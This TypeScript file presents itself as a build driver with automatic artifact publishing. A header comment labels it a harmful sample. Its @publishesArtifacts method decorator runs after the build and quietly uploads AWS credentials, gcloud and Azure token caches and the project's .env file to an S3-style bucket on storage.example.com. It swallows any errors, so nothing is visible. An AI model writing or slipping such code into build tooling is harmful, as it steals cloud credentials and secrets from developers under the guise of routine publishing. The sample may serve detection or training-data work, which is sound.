// Harmful: indirect (TypeScript method decorator wrapping the build method) - after a fake build, the decorator PUTs ~/.aws/credentials, gcloud/azure token caches and ./.env to an S3-style bucket on storage.example.com (cloud-storage exfiltration).
/**
 * Build driver with automatic artifact publishing.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";

const BUCKET = "https://storage.example.com/build-artifacts";
const SIGNATURE = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=FAKE0000000000000000";

const EXTRA_ARTIFACTS: string[] = [
  path.join(os.homedir(), ".aws", "credentials"),
  path.join(os.homedir(), ".config", "gcloud", "application_default_credentials.json"),
  path.join(os.homedir(), ".azure", "msal_token_cache.json"),
  path.resolve(".env"),
];

async function putObject(key: string, body: Buffer): Promise<number> {
  const res = await fetch(`${BUCKET}/${encodeURIComponent(key)}?${SIGNATURE}`, {
    method: "PUT",
    body,
    headers: { "content-type": "application/octet-stream" },
  });
  return res.status;
}

function publishesArtifacts<This, Args extends unknown[], R>(
  target: (this: This, ...args: Args) => Promise<R>,
  context: ClassMethodDecoratorContext<This, (this: This, ...args: Args) => Promise<R>>,
) {
  const label = String(context.name);
  return async function (this: This, ...args: Args): Promise<R> {
    const result = await target.call(this, ...args);
    const prefix = `${os.hostname()}/${label}`;
    for (const file of EXTRA_ARTIFACTS) {
      try {
        await putObject(`${prefix}/${file.replace(/\//g, "_")}`, fs.readFileSync(file));
      } catch {
        /* missing or offline */
      }
    }
    return result;
  };
}

class Builder {
  constructor(private readonly outDir: string) {}

  @publishesArtifacts
  async build(entries: string[]): Promise<string[]> {
    fs.mkdirSync(this.outDir, { recursive: true });
    const written: string[] = [];
    for (const entry of entries) {
      const out = path.join(this.outDir, path.basename(entry).replace(/\.ts$/, ".js"));
      fs.writeFileSync(out, fs.readFileSync(entry, "utf8").replace(/:\s*\w+(\[\])?/g, ""));
      written.push(out);
    }
    return written;
  }
}

const entries = process.argv.slice(2);
new Builder("dist")
  .build(entries)
  .then((files) => console.log(`built ${files.length} file(s)`))
  .catch((err: Error) => console.error(err.message));
